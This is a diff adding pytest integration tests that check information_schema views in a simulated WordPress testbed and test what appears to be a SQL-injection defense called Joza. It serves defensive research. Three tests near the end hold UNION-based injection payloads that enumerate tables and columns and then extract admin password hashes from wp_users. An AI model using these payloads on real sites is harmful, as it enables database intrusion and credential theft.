@@ -1,0 +1,97 @@
+"""Integration tests: information_schema enumeration, attack and defense."""
+
+import pytest
+
+from repro.core import JozaEngine
+from repro.testbed import build_testbed, make_request, plugin_by_name
+
+
+@pytest.fixture
+def app():
+    return build_testbed(num_posts=3)
+
+
+def test_tables_view_lists_every_table(app):
+    result = app.db.execute(
+        "SELECT table_name FROM information_schema.tables ORDER BY table_name"
+    )
+    names = [r[0] for r in result.rows]
+    assert "wp_users" in names and "wp_posts" in names
+    assert len(names) == len(app.db.tables)
+
+
+def test_tables_view_row_counts(app):
+    result = app.db.execute(
+        "SELECT table_rows FROM information_schema.tables "
+        "WHERE table_name = 'wp_posts'"
+    )
+    assert result.scalar() == 3
+
+
+def test_columns_view_describes_schema(app):
+    result = app.db.execute(
+        "SELECT column_name, ordinal_position FROM information_schema.columns "
+        "WHERE table_name = 'wp_users' ORDER BY ordinal_position"
+    )
+    assert [r[0] for r in result.rows] == ["ID", "user_login", "user_pass", "user_email"]
+
+
+def test_views_reflect_ddl_and_dml(app):
+    before = app.db.execute(
+        "SELECT table_rows FROM information_schema.tables "
+        "WHERE table_name = 'wp_comments'"
+    ).scalar()
+    app.db.execute(
+        "INSERT INTO wp_comments (comment_post_ID, comment_author, "
+        "comment_content, comment_approved) VALUES (1, 'x', 'y', 1)"
+    )
+    after = app.db.execute(
+        "SELECT table_rows FROM information_schema.tables "
+        "WHERE table_name = 'wp_comments'"
+    ).scalar()
+    assert after == before + 1
+
+
+def test_unknown_view_raises(app):
+    from repro.database import TableNotFoundError
+
+    with pytest.raises(TableNotFoundError):
+        app.db.execute("SELECT * FROM information_schema.routines")
+
+
+def test_schema_enumeration_exploit_works_unprotected(app):
+    """The classic reconnaissance union: dump table names via the plugin."""
+    defn = plugin_by_name("allowphp")
+    payload = "-1 UNION SELECT 1, table_name, 3 FROM information_schema.tables"
+    response = app.handle(make_request(defn, payload))
+    assert "wp_users" in response.body
+    assert "wp_allowphp_snippets" in response.body
+
+
+def test_schema_enumeration_blocked_by_joza(app):
+    engine = JozaEngine.protect(app)
+    defn = plugin_by_name("allowphp")
+    payload = "-1 UNION SELECT 1, table_name, 3 FROM information_schema.tables"
+    response = app.handle(make_request(defn, payload))
+    assert response.blocked
+    assert engine.stats.attacks_blocked == 1
+
+
+def test_column_discovery_then_extraction_chain(app):
+    """Full SQLMap-style kill chain against the unprotected testbed."""
+    defn = plugin_by_name("allowphp")
+    # 1. find the interesting column
+    recon = app.handle(
+        make_request(
+            defn,
+            "-1 UNION SELECT 1, column_name, 3 FROM information_schema.columns",
+        )
+    )
+    assert "user_pass" in recon.body
+    # 2. extract it
+    loot = app.handle(
+        make_request(defn, "-1 UNION SELECT 1, user_pass, 3 FROM wp_users LIMIT 1")
+    )
+    from repro.testbed import ADMIN_PASSWORD_HASH
+
+    assert ADMIN_PASSWORD_HASH in loot.body
